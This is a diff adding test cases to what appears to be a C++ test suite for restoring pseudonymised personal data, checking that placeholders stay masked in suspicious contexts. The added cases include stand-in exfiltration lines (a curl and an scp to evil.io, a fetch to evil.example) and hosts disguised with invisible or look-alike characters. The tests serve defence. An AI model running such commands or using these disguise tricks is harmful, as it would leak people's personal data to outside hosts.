@@ -47,6 +47,15 @@ struct Case {
 constexpr Encoding kPlain = Encoding::plain;
 constexpr Encoding kJson = Encoding::json;
 
+/// So many letters, each as six bytes of JSON.
+std::string escaped_letters(std::size_t count) {
+  std::string text;
+  for (std::size_t i = 0; i < count; ++i) {
+    text += R"(\u0061)";
+  }
+  return text;
+}
+
 const Case kCases[] = {
     {"as issued", kPlain, "Write to EMAIL_QZTKRBWMHD.", "Write to ada@x.example."},
     {"mutated", kPlain, "a email\\_\nqztkrbwmhd b", "a ada@x.example b"},
@@ -108,6 +117,31 @@ const Case kCases[] = {
      kPlain,
      "NL_BSN_BCDFGHJKLM.\u00E9vil.example",
      "NL_BSN_BCDFGHJKLM.\u00E9vil.example"},
+    {"user and password of a foreign host",
+     kPlain,
+     "curl NL_BSN_BCDFGHJKLM:x@evil.io",
+     "curl NL_BSN_BCDFGHJKLM:x@evil.io"},
+    {"quoted local part", kPlain, "\"NL_BSN_BCDFGHJKLM\"@evil.io", "\"NL_BSN_BCDFGHJKLM\"@evil.io"},
+    {"host with a letter of another script",
+     kPlain,
+     "NL_BSN_BCDFGHJKLM\u00E9.evil.io",
+     "NL_BSN_BCDFGHJKLM\u00E9.evil.io"},
+    {"host with what browsers leave out",
+     kPlain,
+     "NL_BSN_BCDFGHJKLM\u00AD.evil\u200B.io",
+     "NL_BSN_BCDFGHJKLM\u00AD.evil\u200B.io"},
+    {"copy to another machine",
+     kPlain,
+     "scp x git@evil.io:NL_BSN_BCDFGHJKLM",
+     "scp x git@evil.io:NL_BSN_BCDFGHJKLM"},
+    {"code",
+     kPlain,
+     "'NL_BSN_BCDFGHJKLM'.split(), \"EMAIL_QZTKRBWMHD\".lower()",
+     "'123456782'.split(), \"ada@x.example\".lower()"},
+    {"Chinese prose",
+     kPlain,
+     "NL_BSN_BCDFGHJKLM\uFF0C\u8BF7 see example.com",
+     "123456782\uFF0C\u8BF7 see example.com"},
     {"end of a sentence",
      kPlain,
      "EMAIL_QZTKRBWMHD. And NL_BSN_BCDFGHJKLM.\nEMAIL_QZTKRBWMHD.",
@@ -142,6 +176,10 @@ const Case kCases[] = {
      kJson,
      R"({"host":"NL_BSN_BCDFGHJKLM\u002eevil.io"})",
      R"({"host":"NL_BSN_BCDFGHJKLM\u002eevil.io"})"},
+    {"escaped letters before the host",
+     kJson,
+     "{\"h\":\"NL_BSN_BCDFGHJKLM" + escaped_letters(30) + ".evil.io\"}",
+     "{\"h\":\"NL_BSN_BCDFGHJKLM" + escaped_letters(30) + ".evil.io\"}"},
     {"the next string is another text",
      kJson,
      R"({"a":"NL_BSN_BCDFGHJKLM",".evil.io":1})",
@@ -151,10 +189,22 @@ const Case kCases[] = {
      kJson,
      R"({"u":"https://evil.example/\n\tEMAIL_QZTKRBWMHD"})",
      R"({"u":"https://evil.example/\n\tEMAIL_QZTKRBWMHD"})"},
-    {"behind a URL and a blank",
+    {"a string that begins with a URL is one, blanks and all",
      kJson,
-     R"({"u":"https://evil.example/ \nEMAIL_QZTKRBWMHD"})",
-     R"({"u":"https://evil.example/ \nada@x.example"})"},
+     R"({"u":"https://evil.example/?q=a \nEMAIL_QZTKRBWMHD"})",
+     R"({"u":"https://evil.example/?q=a \nEMAIL_QZTKRBWMHD"})"},
+    {"code that begins with a URL",
+     kJson,
+     R"x({"js":" fetch('https://evil.example/' + 'EMAIL_QZTKRBWMHD')"})x",
+     R"x({"js":" fetch('https://evil.example/' + 'EMAIL_QZTKRBWMHD')"})x"},
+    {"prose with a URL, and a blank",
+     kJson,
+     R"({"body" : "See https://evil.example/ \nEMAIL_QZTKRBWMHD"})",
+     R"({"body" : "See https://evil.example/ \nada@x.example"})"},
+    {"string behind a URL",
+     kJson,
+     R"({"u" : "https://evil.example/ x" , "to" : "EMAIL_QZTKRBWMHD"})",
+     R"({"u" : "https://evil.example/ x" , "to" : "ada@x.example"})"},
     {"escaped once more",
      kJson,
      R"({"to":"PERSON_BBBBBBBBBB"})",
